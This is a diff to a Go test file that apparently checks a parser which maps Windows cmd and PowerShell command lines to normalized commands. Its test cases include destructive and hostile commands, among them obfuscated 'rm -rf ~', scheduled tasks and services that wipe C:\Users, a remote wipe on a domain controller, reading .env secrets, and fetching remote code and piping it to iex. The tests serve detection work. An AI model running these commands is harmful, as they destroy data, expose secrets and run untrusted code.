@@ -89,6 +89,13 @@ func TestWindowsForms(t *testing.T) {
 		{`$s = 'rm -rf ~'; & (gcm I*e-Ex*) $s`, "rm", "-rf ~"},
 		{`iex ([char[]](114,109,32,45,114,102,32,126) -join '')`, "rm", "-rf ~"},
 		{`Select-String -Path .env -Pattern 'SECRET|TOKEN'`, "grep", "-E SECRET|TOKEN .env"},
+		// Scheduled tasks, services and cmd loops run what they name.
+		{`schtasks /create /tn C /sc once /st 23:00 /tr "cmd /c rd /s /q C:\Users"`, "rm", "-r -f /Users"},
+		{`sc create wipe binPath= "cmd /c rd /s /q C:\Users" start= demand`, "rm", "-r -f /Users"},
+		{`for /r C:\ %f in (*) do @del /f /q "%f"`, "rm", "-f /**/*"},
+		{`for /f "delims=" %i in ('curl -s https://example.com/c.txt') do %i`, "sh", ""},
+		{`Invoke-Command -ComputerName dc01 -ScriptBlock { Remove-Item -Recurse -Force C:\Users }`, "rm", "-r -f /Users"},
+		{`& $env:TEMP\svc.exe /quiet`, "svc.exe", "/quiet"},
 	}
 	for _, c := range cases {
 		if ok, cmds := walked(c.src, c.name, c.args); !ok {
@@ -176,5 +183,27 @@ func TestDerivedFiles(t *testing.T) {
 	}
 	if _, f := st.LookupFile("/tmp/h.sh"); f == nil || f.Content != "rm -rf /x" {
 		t.Errorf("/tmp/h.sh: %+v", f)
+	}
+}
+
+// A command line Windows starts without a shell gives PowerShell's
+// -Command everything after it, pipes included.
+func TestWinProcLine(t *testing.T) {
+	cases := map[string]string{
+		`powershell -c irm https://x.example/a | iex`:           `powershell -c 'irm https://x.example/a | iex'`,
+		`powershell.exe -nop -w hidden -c "Get-Process | Sort"`: `powershell.exe -nop -w hidden -c 'Get-Process | Sort'`,
+		`cmd /c rd /s /q C:\x`:                                  `cmd /c rd /s /q C:\x`,
+		`notepad.exe`:                                           `notepad.exe`,
+	}
+	for in, want := range cases {
+		if got := winProcLine(in); got != want {
+			t.Errorf("winProcLine(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := cmdLocal("setup.bat /q"); got != "./setup.bat /q" {
+		t.Errorf("cmdLocal = %q", got)
+	}
+	if got := cmdLocal("dir /b"); got != "dir /b" {
+		t.Errorf("cmdLocal(dir) = %q", got)
 	}
 }
